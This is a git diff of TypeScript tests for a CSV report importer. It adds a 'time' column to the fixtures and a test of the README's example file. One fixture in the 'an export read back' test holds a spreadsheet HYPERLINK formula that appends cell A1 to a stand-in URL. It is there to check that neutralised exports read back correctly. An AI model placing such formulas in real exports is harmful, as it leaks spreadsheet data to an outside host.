@@ -1,5 +1,6 @@
 import { describe, test } from 'node:test';
 import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
 import { parseReportsCsv, type CsvParseResult } from '../../electron/core/csv-parse-reports.ts';
 import { describeCsvProblem, describeCsvWarning, describeReading } from '../../electron/core/csv-problem-text.ts';
 import { columnForHeader, HEADER_NAMES, headerKey, IMPORT_COLUMNS } from '../../shared/csv-columns.ts';
@@ -38,7 +39,7 @@ describe('encodings Excel writes', () => {
 
   test('Windows-1252 punctuation Excel puts in by itself (curly quotes, dashes, ellipsis) reads as those characters', () => {
     // 0x93 0x94: “ ”, 0x96: –, 0x85: …, 0x92: ’ (AutoCorrect's choices); none is a control character.
-    const bytes = Uint8Array.from([...cp1252('status;usageplacecode;description\r\nnotdisconnected;UP-1;'), 0x93, 0x4f, 0x94, 0x20, 0x96, 0x20, 0x85, 0x92, 0x0d, 0x0a]);
+    const bytes = Uint8Array.from([...cp1252('status;usageplacecode;time;description\r\nnotdisconnected;UP-1;4.1.2024 10.41;'), 0x93, 0x4f, 0x94, 0x20, 0x96, 0x20, 0x85, 0x92, 0x0d, 0x0a]);
     const result = ok(parse(bytes));
     assert.equal(result.encoding, 'windows-1252');
     assert.equal(result.rows[0]?.report.description, '\u201CO\u201D \u2013 \u2026\u2019');
@@ -59,8 +60,8 @@ describe('encodings Excel writes', () => {
   });
 
   test('UTF-8 with and without BOM; ä stays ä, and a decomposed ä becomes the composed one', () => {
-    assert.equal(ok(parse(utf8('\uFEFFstatus;usageplacecode;description\nconnected;UP-1;ä\n'))).encoding, 'utf-8-bom');
-    const plain = ok(parse(utf8('status;usageplacecode;description\nconnected;UP-1;a\u0308\n')));
+    assert.equal(ok(parse(utf8('\uFEFFstatus;usageplacecode;time;description\nconnected;UP-1;4.1.2024 10.41;ä\n'))).encoding, 'utf-8-bom');
+    const plain = ok(parse(utf8('status;usageplacecode;time;description\nconnected;UP-1;4.1.2024 10.41;a\u0308\n')));
     assert.equal(plain.encoding, 'utf-8');
     assert.equal(plain.rows[0]?.report.description, 'ä');
   });
@@ -125,11 +126,11 @@ describe('rows Excel shortened', () => {
 
 describe('separators', () => {
   test('";", "," and tab are each taken from the header row, quoted separators not counted', () => {
-    assert.equal(ok(parse(utf8('status,usageplacecode,description\nconnected,UP-1,"a;b;c;d"\n'))).separator, ',');
-    assert.deepEqual(ok(parse(utf8('"note; x";status;usageplacecode\na;connected;UP-1\n'))).warnings[0], {
+    assert.equal(ok(parse(utf8('status,usageplacecode,time,description\nconnected,UP-1,4.1.2024 10.41,"a;b;c;d"\n'))).separator, ',');
+    assert.deepEqual(ok(parse(utf8('"note; x";status;usageplacecode;time\na;connected;UP-1;4.1.2024 10.41\n'))).warnings[0], {
       code: 'ignored_columns', line: 1, field: null, names: ['note; x'],
     });
-    assert.equal(ok(parse(utf8('status\tusageplacecode\tdescription\nconnected\tUP-1\ta, b; c\n'))).separator, '\t');
+    assert.equal(ok(parse(utf8('status\tusageplacecode\ttime\tdescription\nconnected\tUP-1\t4.1.2024 10.41\ta, b; c\n'))).separator, '\t');
   });
 
   test('a header with as many of two separators is refused, naming them', () => {
@@ -142,17 +143,17 @@ describe('separators', () => {
 });
 
 describe('what Excel destroyed', () => {
-  const header = 'status;usageplacecode;customernumber;contract_no;invoices';
+  const header = 'status;usageplacecode;customernumber;contract_no;time;invoices';
 
   test('E-notation in each code field is refused with line, field, and the Excel fix', () => {
     const text = [
       header,
-      'connected;6,43008E+17;C1;K1;1:2',
-      'connected;UP-2;6.43008E+17;K1;1:2',
-      'connected;UP-3;C1;5,55555E+05;1:2',
-      'connected;UP-4;C1;K1;5,94294E+11:1234',
-      'connected;UP-5;C1;K1;594294:1,234E+3 594295:1',
-      'connected;UP-6;A1E+5;1e5;12E34:7',
+      'connected;6,43008E+17;C1;K1;4.1.2024 10.41;1:2',
+      'connected;UP-2;6.43008E+17;K1;4.1.2024 10.41;1:2',
+      'connected;UP-3;C1;5,55555E+05;4.1.2024 10.41;1:2',
+      'connected;UP-4;C1;K1;4.1.2024 10.41;5,94294E+11:1234',
+      'connected;UP-5;C1;K1;4.1.2024 10.41;594294:1,234E+3 594295:1',
+      'connected;UP-6;A1E+5;1e5;4.1.2024 10.41;12E34:7',
     ].join('\r\n');
     const found = problems(parse(cp1252(text)));
     assert.deepEqual(found.map((p) => p.code === 'excel_number' && [p.line, p.field, p.value, p.part]), [
@@ -169,7 +170,7 @@ describe('what Excel destroyed', () => {
   });
 
   test('a long code ending in zeros past its 15th digit is a warning; when every long code does, one for the column', () => {
-    const rows = (...codes: string[]) => utf8(`status;usageplacecode\n${codes.map((c) => `connected;${c}`).join('\n')}\n`);
+    const rows = (...codes: string[]) => utf8(`status;usageplacecode;time\n${codes.map((c, i) => `connected;${c};4.1.2024 10.${10 + i}`).join('\n')}\n`);
     const mixed = ok(parse(rows('643007572062443672', '643007572062443000', '643007572062443673', '6430075720624430')));
     assert.deepEqual(mixed.warnings, [
       { code: 'trailing_zeros', line: 3, field: 'usageplacecode', value: '643007572062443000' },
@@ -208,6 +209,16 @@ describe('headers in the clerk\'s language', () => {
     }
   });
 
+  test("the README's example file imports as it says", () => {
+    const readme = readFileSync(new URL('../../README.md', import.meta.url), 'utf8');
+    const example = /```csv\n([\s\S]*?)```/.exec(readme)?.[1];
+    assert.ok(example, 'the README has a csv example');
+    const result = ok(parse(utf8(example)));
+    assert.deepEqual(result.rows.map((r) => [r.report.status, r.report.time, r.report.invoices.length]), [
+      ['disconnected', '2024-01-04 10:41:00', 2], ['notdisconnected', '2024-01-05 08:15:00', 1],
+    ]);
+  });
+
   test('every header name belongs to one column only', () => {
     const seen = new Map<string, string>();
     for (const column of IMPORT_COLUMNS) {
@@ -221,23 +232,24 @@ describe('headers in the clerk\'s language', () => {
   });
 
   test('unknown columns are listed and ignored; a missing required one is refused', () => {
-    const result = ok(parse(utf8('id;status;colour;usageplacecode;state;;\nx;connected;red;UP-1;sent;;\ny;connected;blue;UP-2;sent;;z\n')));
+    const result = ok(parse(utf8('aika;id;status;colour;usageplacecode;state;;\n4.1.2024 10.41;x;connected;red;UP-1;sent;;\n4.1.2024 10.41;y;connected;blue;UP-2;sent;;z\n')));
     assert.deepEqual(result.warnings, [
       { code: 'ignored_columns', line: 1, field: null, names: ['colour', 'state'] },
-      { code: 'unnamed_columns', line: 1, field: null, columns: [7] },
+      { code: 'unnamed_columns', line: 1, field: null, columns: [8] },
     ]);
     assert.match(describeCsvWarning(result.warnings[0]!), /colour, state/);
     assert.deepEqual(result.rows.map((r) => r.exportedId), ['x', 'y'], "an export's id column is read (see csv-import)");
     assert.deepEqual(result.rows.map((r) => r.report.usageplacecode), ['UP-1', 'UP-2']);
     const missing = problems(parse(utf8('tila;asiakasnumero\nconnected;A1\n')));
-    assert.deepEqual(missing, [{ code: 'missing_column', line: 1, field: 'usageplacecode' }]);
+    assert.deepEqual(missing, [{ code: 'missing_column', line: 1, field: 'usageplacecode' }, { code: 'missing_column', line: 1, field: 'time' }]);
     assert.match(describeCsvProblem(missing[0]!), /usageplacecode, käyttöpaikka, användningsställe, forbrukssted/);
   });
 });
 
 describe('an export read back', () => {
   test('cells the export neutralised for Excel read as they were', () => {
-    const result = ok(parse(utf8('status;usageplacecode;description\nnotdisconnected;\'-17;"\'=HYPERLINK(""http://x.invalid/?""&A1,""open"")"\nnotdisconnected;UP-2;"\'\'+1"\nnotdisconnected;UP-3;\'plain\n')));
+    const result = ok(parse(utf8('time;status;usageplacecode;description\n4.1.2024 10.41;notdisconnected;\'-17;"\'=HYPERLINK(""http://x.invalid/?""&A1,""open"")"\n' +
+      '4.1.2024 10.41;notdisconnected;UP-2;"\'\'+1"\n4.1.2024 10.41;notdisconnected;UP-3;\'plain\n')));
     assert.deepEqual(result.rows.map((r) => [r.report.usageplacecode, r.report.description]), [
       ['-17', '=HYPERLINK("http://x.invalid/?"&A1,"open")'],
       ['UP-2', "'+1"],
